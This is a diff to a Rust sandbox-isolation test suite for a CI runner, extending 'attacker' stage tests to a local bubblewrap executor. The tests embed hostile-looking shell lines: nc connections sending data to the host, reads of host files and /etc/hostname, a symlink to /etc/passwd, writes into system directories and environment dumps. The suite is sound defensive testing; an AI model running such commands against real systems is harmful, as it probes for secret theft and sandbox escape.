@@ -14,6 +14,11 @@ use super::run::{Repo, containers_of, finished, log_text, outcome};
 
 /// Runs a one-stage attack; returns the events and the attacker's log.
 fn attack(script: &str, extra_stage: &str) -> (Repo, Vec<Value>, String) {
+    attack_on("docker", script, extra_stage)
+}
+
+/// The same, on the given executor (`docker` or `local`, the bubblewrap sandbox).
+fn attack_on(executor: &str, script: &str, extra_stage: &str) -> (Repo, Vec<Value>, String) {
     let indented: String = script.lines().fold(String::new(), |mut acc, l| {
         acc.push_str("      ");
         acc.push_str(l);
@@ -23,7 +28,7 @@ fn attack(script: &str, extra_stage: &str) -> (Repo, Vec<Value>, String) {
     let repo = Repo::new(&format!(
         "  attacker:\n    timeout: 30s\n    resources: {{ memory: 64m, pids: 64 }}\n    run: |\n{indented}{extra_stage}"
     ));
-    let (_, ev, _) = repo.run(&[]);
+    let (_, ev, _) = repo.run(&["--executor", executor]);
     let log = log_text(&ev, "attacker");
     (repo, ev, log)
 }
@@ -40,22 +45,31 @@ fn host_from_container() -> String {
 
 #[test]
 fn no_tcp_with_network_none() {
+    no_tcp_with_network_none_on("docker");
+}
+
+fn no_tcp_with_network_none_on(executor: &str) {
     let listener = TcpListener::bind("0.0.0.0:0").expect("bind");
     listener.set_nonblocking(true).expect("nonblocking");
     let port = listener.local_addr().expect("addr").port();
     let host = host_from_container();
-    let (_, _, log) = attack(&format!("nc -w 3 {host} {port} </dev/null && echo CONNECTED || echo blocked"), "");
+    let (_, _, log) =
+        attack_on(executor, &format!("nc -w 3 {host} {port} </dev/null && echo CONNECTED || echo blocked"), "");
     assert!(log.contains("blocked") && !log.contains("CONNECTED"), "{log}");
     assert!(listener.accept().is_err(), "the attacker reached a TCP server on the host");
 }
 
 #[test]
 fn no_udp_with_network_none() {
+    no_udp_with_network_none_on("docker");
+}
+
+fn no_udp_with_network_none_on(executor: &str) {
     let sock = UdpSocket::bind("0.0.0.0:0").expect("bind");
     sock.set_read_timeout(Some(Duration::from_millis(500))).expect("timeout");
     let port = sock.local_addr().expect("addr").port();
     let host = host_from_container();
-    let (_, _, log) = attack(&format!("echo leak | nc -u -w 1 {host} {port}; echo sent-attempted"), "");
+    let (_, _, log) = attack_on(executor, &format!("echo leak | nc -u -w 1 {host} {port}; echo sent-attempted"), "");
     assert!(log.contains("sent-attempted"), "{log}");
     let mut buf = [0u8; 64];
     assert!(sock.recv_from(&mut buf).is_err(), "a UDP datagram left the container");
@@ -63,7 +77,11 @@ fn no_udp_with_network_none() {
 
 #[test]
 fn no_dns_with_network_none() {
-    let (_, _, log) = attack("nslookup example.com 2>&1 && echo RESOLVED || echo no-dns", "");
+    no_dns_with_network_none_on("docker");
+}
+
+fn no_dns_with_network_none_on(executor: &str) {
+    let (_, _, log) = attack_on(executor, "nslookup example.com 2>&1 && echo RESOLVED || echo no-dns", "");
     assert!(log.contains("no-dns") && !log.contains("RESOLVED"), "{log}");
 }
 
@@ -75,16 +93,25 @@ fn no_network_interface_but_loopback() {
 
 #[test]
 fn host_files_outside_the_workspace_are_not_visible() {
+    host_files_outside_the_workspace_are_not_visible_on("docker");
+}
+
+fn host_files_outside_the_workspace_are_not_visible_on(executor: &str) {
     let outside = tempfile::tempdir().expect("dir");
     let secret = outside.path().join("host-secret.txt");
     std::fs::write(&secret, "HOST-CANARY-83").expect("write");
-    let (_, _, log) = attack(&format!("cat {} 2>&1; cat /etc/hostname; ls /home /root 2>&1", secret.display()), "");
+    let (_, _, log) =
+        attack_on(executor, &format!("cat {} 2>&1; cat /etc/hostname; ls /home /root 2>&1", secret.display()), "");
     assert!(!log.contains("HOST-CANARY-83"), "{log}");
 }
 
 #[test]
 fn the_docker_socket_is_not_there() {
-    let (_, _, log) = attack("ls -l /var/run/docker.sock /run/docker.sock 2>&1; echo done", "");
+    the_docker_socket_is_not_there_on("docker");
+}
+
+fn the_docker_socket_is_not_there_on(executor: &str) {
+    let (_, _, log) = attack_on(executor, "ls -l /var/run/docker.sock /run/docker.sock 2>&1; echo done", "");
     assert!(log.contains("No such file"), "{log}");
 }
 
@@ -202,7 +229,11 @@ fn a_planted_git_file_does_not_redirect_the_runner() {
 
 #[test]
 fn the_outputs_file_cannot_be_a_symlink_to_a_host_file() {
-    let (_, ev, _) = attack("ln -sf /etc/passwd $LIGHTSOUT_OUTPUT", "");
+    the_outputs_file_cannot_be_a_symlink_to_a_host_file_on("docker");
+}
+
+fn the_outputs_file_cannot_be_a_symlink_to_a_host_file_on(executor: &str) {
+    let (_, ev, _) = attack_on(executor, "ln -sf /etc/passwd $LIGHTSOUT_OUTPUT", "");
     assert_eq!(outcome(&ev, "attacker"), "failed");
     let f = finished(&ev, "attacker")[0];
     assert!(f["reason"].as_str().unwrap_or_default().contains("not a regular file"), "{f:#?}");
@@ -234,4 +265,82 @@ fn a_stage_running_past_its_timeout_is_stopped_and_removed() {
     assert_eq!(outcome(&ev, "attacker"), "timed_out");
     let run = repo.run_ids().pop().expect("run");
     assert!(containers_of(&run).is_empty());
+}
+
+// The same attacks against the local executor (bubblewrap), where they apply. Resource limits
+// (fork and memory bombs, /tmp size) do not: the local executor has no cgroups. Privilege
+// tests do not either: the sandbox runs as the invoking user, without capabilities.
+
+#[test]
+fn local_no_tcp_with_network_none() {
+    no_tcp_with_network_none_on("local");
+}
+
+#[test]
+fn local_no_udp_with_network_none() {
+    no_udp_with_network_none_on("local");
+}
+
+#[test]
+fn local_no_dns_with_network_none() {
+    no_dns_with_network_none_on("local");
+}
+
+#[test]
+fn local_host_files_outside_the_workspace_are_not_visible() {
+    host_files_outside_the_workspace_are_not_visible_on("local");
+}
+
+#[test]
+fn local_the_docker_socket_is_not_there() {
+    the_docker_socket_is_not_there_on("local");
+}
+
+#[test]
+fn local_the_outputs_file_cannot_be_a_symlink_to_a_host_file() {
+    the_outputs_file_cannot_be_a_symlink_to_a_host_file_on("local");
+}
+
+#[test]
+fn local_host_system_directories_are_read_only() {
+    let (_, _, log) = attack_on(
+        "local",
+        "for d in /etc /usr /bin /sbin; do touch $d/lightsout-x 2>/dev/null && echo WROTE $d; done; echo checked",
+        "",
+    );
+    assert!(log.contains("checked") && !log.contains("WROTE"), "{log}");
+    assert!(!std::path::Path::new("/etc/lightsout-x").exists() && !std::path::Path::new("/usr/lightsout-x").exists());
+}
+
+#[test]
+fn local_the_runners_environment_is_out_of_reach() {
+    let repo = Repo::new("  attacker:\n    run: env; echo done\n");
+    let mut c = repo.cmd(&["--executor", "local"]);
+    c.env("RUNNER_CANARY", "runner-canary-4471");
+    let (code, out, err) = output(&mut c);
+    assert_eq!(code, 0, "{err}");
+    let log = log_text(&super::run::events(&out), "attacker");
+    assert!(log.contains("done") && !log.contains("runner-canary-4471"), "{log}");
+}
+
+#[test]
+fn local_a_process_left_behind_dies_with_the_stage() {
+    let (_, ev, _) = attack_on("local", "(sleep 317 &); nohup sleep 317 >/dev/null 2>&1 & echo spawned", "");
+    assert_eq!(outcome(&ev, "attacker"), "succeeded");
+    std::thread::sleep(Duration::from_millis(300));
+    let left = Command::new("pgrep").args(["-f", "sleep 317"]).output().expect("pgrep");
+    assert!(String::from_utf8_lossy(&left.stdout).trim().is_empty(), "a process outlived its sandbox");
+}
+
+#[test]
+fn local_a_stage_past_its_timeout_is_killed() {
+    let repo = Repo::new("  attacker:\n    timeout: 2s\n    run: trap '' TERM; sleep 319\n");
+    let started = std::time::Instant::now();
+    let (code, ev, _) = repo.run(&["--executor", "local"]);
+    assert_eq!(code, 1);
+    assert_eq!(outcome(&ev, "attacker"), "timed_out");
+    assert!(started.elapsed() < Duration::from_secs(20));
+    std::thread::sleep(Duration::from_millis(300));
+    let left = Command::new("pgrep").args(["-f", "sleep 319"]).output().expect("pgrep");
+    assert!(String::from_utf8_lossy(&left.stdout).trim().is_empty(), "the timed-out sandbox is still running");
 }
